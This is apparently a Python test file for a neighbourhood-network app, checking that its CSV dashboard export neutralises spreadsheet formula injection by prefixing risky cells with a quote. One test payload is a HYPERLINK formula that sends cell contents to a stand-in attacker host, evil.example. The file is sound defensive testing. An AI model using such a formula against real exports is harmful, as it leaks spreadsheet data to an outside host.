"""A CSV download never hands a spreadsheet a formula written by a user (OWASP CSV
injection): a BIN name any resident may propose can start with "=", "+", "-" or "@"."""

import csv
import io

import pytest

from buurtnet.common.csv_export import neutralise
from buurtnet.networks.tests.test_views import log_in

from .test_dashboard import period_query

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1;"Open")'


def rows_of(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8")[1:])))


def test_bin_name_that_is_a_formula_is_written_as_text_in_the_csv(client, world):
    world.network.name = HYPERLINK
    world.network.save(update_fields=["name"])
    log_in(client, world.officer)

    response = client.get(f"/insights/dashboard.csv?chart=networks&{period_query()}")

    assert response.status_code == 200
    names = [row[0] for row in rows_of(response)[1:]]
    assert names == ["'" + HYPERLINK]


@pytest.mark.parametrize("text", ["=1+1", "+32 470", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_cell_that_a_spreadsheet_reads_as_a_formula_gets_a_quote_in_front(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["BIN Leielaan", "", "a=b", 0, -3, 2.5])
def test_ordinary_cells_and_numbers_are_left_as_they_are(value):
    assert neutralise(value) == value
